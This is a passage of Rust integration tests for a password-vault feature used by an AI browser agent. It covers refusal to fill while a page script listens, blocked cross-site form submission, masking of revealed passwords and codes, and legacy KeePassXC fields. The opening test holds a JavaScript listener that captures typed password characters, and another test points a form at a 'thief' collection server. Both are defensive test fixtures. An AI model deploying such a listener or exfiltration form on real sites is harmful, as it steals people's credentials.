    // or "none" after 4 s.
    let listener = "new Promise((r) => { document.addEventListener('input', (e) => { \
                    if (e.target.type === 'password') r([...e.target.value].map((c) => \
                    c.charCodeAt(0)).join(',')); }, true); setTimeout(() => r('none'), 4000); })";
    let ((_, heard), (fill_refused, fill)) = tokio::join!(
        agent.act_text("evaluate", json!({ "expression": listener })),
        async {
            tokio::time::sleep(Duration::from_millis(500)).await;
            agent
                .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
                .await
        }
    );
    assert!(fill_refused && fill.contains("evaluate"), "{fill}");
    assert!(heard.contains("none"), "the listener heard: {heard}");
    assert!(
        received(&site, "/typed?field=pass").is_empty(),
        "{:?}",
        site.requests()
    );
}

/// A fill with `submit` goes only into a form that sends it to the item's own origins
/// (DESIGN.md §19a; the vault review's V6): a same-site page whose form's action, or whose
/// submit button's `formaction`, points at another site gets nothing typed, and the answer
/// says where the form would have gone. Without `submit` the fill goes through.
#[tokio::test(flavor = "multi_thread")]
async fn a_fill_that_submits_never_sends_the_form_to_another_site() {
    let Unlocked {
        site,
        _dir,
        kp: _,
        daemon: _daemon,
        agent,
    } = unlocked_forum("submitter").await;
    let thief = PageServer::start().await;
    let elsewhere = thief.url("/collect");
    let cases = [
        ("the form's action", elsewhere.clone(), String::new()),
        (
            "the button's formaction",
            site.url("/welcome"),
            format!("formaction=\"{elsewhere}\""),
        ),
    ];
    for (case, action, formaction) in cases {
        site.set("ACTION", &action);
        site.set("FORMACTION", &formaction);
        agent
            .act_ok("navigate", json!({"url": site.url("/elsewhere.html")}))
            .await;
        let (is_error, text) = agent
            .act_text(
                "fill_login",
                json!({"item": "kp/Web/Forum", "submit": true}),
            )
            .await;
        assert!(is_error, "{case}: {text}");
        assert!(text.contains(&thief.base()), "{case}: names where: {text}");
        assert!(
            received(&site, "/typed").is_empty(),
            "{case}: {:?}",
            site.requests()
        );
    }
    assert!(thief.requests().is_empty(), "{:?}", thief.requests());
    // Without submit nothing leaves on its own: the fill goes through.
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(!is_error, "{text}");
    wait_for(&site, "/typed?field=pass").await;
}

/// A filled password never shows in clear (DESIGN.md §19a; the vault review's V4): when the
/// page's "Show" button turns the filled field into a text field, the field is emptied at
/// once, so a screenshot or a pane frame has nothing to show. The positive control: the same
/// button on a field the vault did not fill leaves the person's own typing as it is.
#[tokio::test(flavor = "multi_thread")]
async fn a_filled_password_shown_as_text_is_emptied() {
    let Unlocked {
        site,
        _dir,
        kp: _,
        daemon: _daemon,
        agent,
    } = unlocked_forum("shower").await;

    // Control: text typed by the agent itself stays when shown.
    agent
        .act_ok("navigate", json!({"url": site.url("/show.html")}))
        .await;
    let snapshot = agent.act_text("read_page", json!({})).await.1;
    let pass_ref = ref_of(&snapshot, "Password");
    let show_ref = ref_of(&snapshot, "Show");
    agent
        .act_ok("computer", json!({"action": "left_click", "ref": pass_ref}))
        .await;
    agent
        .act_ok(
            "computer",
            json!({"action": "type", "text": "typed-by-hand"}),
        )
        .await;
    agent
        .act_ok("computer", json!({"action": "left_click", "ref": show_ref}))
        .await;
    let shown = wait_for(&site, "/shown?type=text").await;
    assert!(shown.ends_with("len=13"), "{shown}");

    // The vault's fill: shown as text, the field is empty.
    agent
        .act_ok("navigate", json!({"url": site.url("/show.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
        .await;
    assert!(!is_error, "{text}");
    let snapshot = agent.act_text("read_page", json!({})).await.1;
    agent
        .act_ok(
            "computer",
            json!({"action": "left_click", "ref": ref_of(&snapshot, "Show")}),
        )
        .await;
    let shown = eventually(
        "the second press's report",
        Duration::from_secs(10),
        || async { received(&site, "/shown?type=text").get(1).cloned() },
    )
    .await;
    assert!(shown.ends_with("len=0"), "{shown}");
}

/// A one-time code typed into a plain text field never shows in clear either (V4): the vault
/// draws it as dots, and when the page takes the dots away the field is emptied at once. The
/// control: the same field with the agent's own typing is drawn in clear and keeps it when
/// revealed.
#[tokio::test(flavor = "multi_thread")]
async fn a_filled_code_in_a_text_field_is_drawn_as_dots_and_emptied_when_shown() {
    let Unlocked {
        site,
        _dir,
        kp: _,
        daemon: _daemon,
        agent,
    } = unlocked_forum("code-shower").await;
    let click =
        |snapshot: &str, name: &str| json!({"action": "left_click", "ref": ref_of(snapshot, name)});

    // Control: typed by hand, drawn in clear, kept.
    agent
        .act_ok("navigate", json!({"url": site.url("/plain-code.html")}))
        .await;
    let snapshot = agent.act_text("read_page", json!({})).await.1;
    agent.act_ok("computer", click(&snapshot, "Answer")).await;
    agent
        .act_ok("computer", json!({"action": "type", "text": "123456"}))
        .await;
    agent.act_ok("computer", click(&snapshot, "Look")).await;
    wait_for(&site, "/look?sec=none&len=6").await;
    agent.act_ok("computer", click(&snapshot, "Reveal")).await;
    wait_for(&site, "/revealed?sec=none&len=6").await;

    // The vault's code: dots, then emptied when revealed.
    agent
        .act_ok("navigate", json!({"url": site.url("/plain-code.html")}))
        .await;
    let snapshot = agent.act_text("read_page", json!({})).await.1;
    let (is_error, text) = agent
        .act_text(
            "fill_totp",
            json!({"item": "kp/Web/Forum", "ref": ref_of(&snapshot, "Answer")}),
        )
        .await;
    assert!(!is_error, "{text}");
    agent.act_ok("computer", click(&snapshot, "Look")).await;
    wait_for(&site, "/look?sec=disc&len=6").await;
    agent.act_ok("computer", click(&snapshot, "Reveal")).await;
    wait_for(&site, "/revealed?sec=none&len=0").await;
}

/// A `pass` store whose key is not in the daemon's gpg home (another machine's key, a lost
/// one): the fill says gpg's own reason and types nothing; listing still works (names only).
#[tokio::test(flavor = "multi_thread")]
async fn a_pass_item_without_its_key_says_so_and_types_nothing() {
    let site = PageServer::area("vault").await;
    let pass = PassStore::new(&site.base());
    let empty = TempDir::new("vault-nokey");
    std::fs::create_dir_all(empty.path()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(empty.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: json!({"vault": {
            "sources": [{"kind": "pass", "name": "ps", "dir": pass.store()}],
            "share": [{"item": "ps/web/forum", "agents": ["*"]}],
        }}),
        env: vec![("GNUPGHOME".into(), empty.path().display().to_string())],
        ..Default::default()
    })
    .await;
    let (_, token) = daemon.add_agent(CHANNEL, "keyless", &[]).await;
    let agent = daemon.caller(&token);
    let (is_error, text) = agent.act_text("list_logins", json!({})).await;
    assert!(!is_error && text.contains("ps/web/forum"), "{text}");
    agent
        .act_ok("navigate", json!({"url": site.url("/login.html")}))
        .await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "ps/web/forum"}))
        .await;
    assert!(
        is_error && text.contains("pass show failed") && text.contains("No secret key"),
        "{text}"
    );
    assert!(
        received(&site, "/typed").is_empty(),
        "{:?}",
        site.requests()
    );
}

/// KeePassXC's other fields, read from a real database: `KP2A_URL` (another site of the
/// entry: it fills there) and the legacy `TOTP Seed` / `TOTP Settings` pair (the code
/// keepassxc-cli computes for the same entry).
#[tokio::test(flavor = "multi_thread")]
async fn kp2a_url_and_a_legacy_totp_seed_are_read_from_a_real_database() {
    let site = PageServer::area("vault").await;
    let second = PageServer::area("vault").await;
    let dir = TempDir::new("vault-legacy");
    let also = format!("{}/login.html", second.base());
    let extra = [
        ("KP2A_URL", also.as_str()),
        ("TOTP Seed", SEED),
        ("TOTP Settings", "30;6"),
    ];
    let login = format!("{}/login.html", site.base());
    let entries = [KdbxEntry {
        title: "Legacy",
        username: "erin",
        password: Some("legacy-pw-77"),
        url: &login,
        otp: None,
        extra: &extra,
    }];
    let kp = vault_fixture::write(
        dir.path(),
        "legacy",
        KP_PASSWORD,
        &entries,
        KdbxFormat::default(),
    );
    let daemon = TestDaemon::start_with(DaemonOptions {
        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Legacy"]),
        ..Default::default()
    })
    .await;
    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
    assert_eq!(status, 200, "{answer}");
    let (_, token) = daemon.add_agent(CHANNEL, "legacy", &[]).await;
    let agent = daemon.caller(&token);
    let (_, listed) = agent.act_text("list_logins", json!({})).await;
    assert!(
        listed.contains(&second.base()) && listed.contains("\"has_totp\":true"),
        "{listed}"
    );
    agent.act_ok("navigate", json!({"url": also})).await;
    let (is_error, text) = agent
        .act_text("fill_login", json!({"item": "kp/Web/Legacy"}))
        .await;
    assert!(!is_error, "{text}");
    wait_for(&second, "/typed?field=pass").await;

    agent
        .act_ok("navigate", json!({"url": second.url("/otp.html")}))
        .await;
    let code_now = || {
        run(
            "keepassxc-cli",
            &["show", "-q", "-t", kp.to_str().unwrap(), "Web/Legacy"],
            &[],
            &format!("{KP_PASSWORD}\n"),
        )
        .trim()
        .to_string()
    };
    let before = code_now();
    let (is_error, text) = agent
        .act_text(
            "fill_totp",
            json!({"item": "kp/Web/Legacy", "submit": true}),
        )
        .await;
    let after = code_now();
    assert!(!is_error, "{text}");
    let sent = wait_for(&second, "/verified").await;
    let code = sent.trim_start_matches("GET /verified?code=").to_string();
    assert!(
        code == before || code == after,
        "the page got {code:?}; keepassxc-cli computed {before:?} then {after:?}"
    );
}
